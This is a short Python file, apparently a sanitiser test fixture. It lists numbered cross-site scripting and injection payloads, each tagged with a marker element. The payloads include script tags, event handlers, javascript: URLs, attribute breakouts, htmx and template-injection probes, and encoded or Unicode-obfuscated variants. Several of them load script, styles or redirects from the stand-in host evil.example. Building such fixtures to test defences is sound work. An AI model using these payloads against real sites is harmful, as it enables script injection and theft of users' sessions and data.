"""Texts that want to be more than text. Each ends in an element and an attribute that no page of ours has."""

MARK = "zqpwned"
TAIL = f"<{MARK} {MARK}=1>"
ATTACKS = (
    "<script>zq()</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=zq()>",
    "<svg onload=zq()>", "<svg><script>zq()</script></svg>", "<body onload=zq()>", "<iframe src=javascript:zq()>",
    "<a href=javascript:zq()>x</a>", "<a href='java\tscript:zq()'>x</a>", "<form action=//evil.example><button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{x:y}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<object data=//evil.example>", "<embed src=//evil.example>",
    '" onmouseover="zq()" x="', "' onfocus='zq()' autofocus x='", "\" style=\"background:url(//evil.example)\" x=\"",
    "</textarea><script>zq()</script>", "</title><script>zq()</script>", "</script><script>zq()</script>",
    "--><script>zq()</script>", "]]><script>zq()</script>", "<div hx-get=/session/end hx-trigger=load>",
    "<div hx-on:click=zq() data-hx-get=/x>", "<hx-partial hx-target=#main>x</hx-partial>", "<template><b onload=zq()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zq()>", "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;zq()&lt;/script&gt;", "&#60;img src=x onerror=zq()&#62;", "%3Cscript%3Ezq()%3C/script%3E",
    "\u200b<\u200bscript>zq()</script>", "＜script＞zq()＜/script＞",
)  # fmt: skip
PAYLOADS = tuple(f"{n} {attack}{TAIL}" for n, attack in enumerate(ATTACKS))
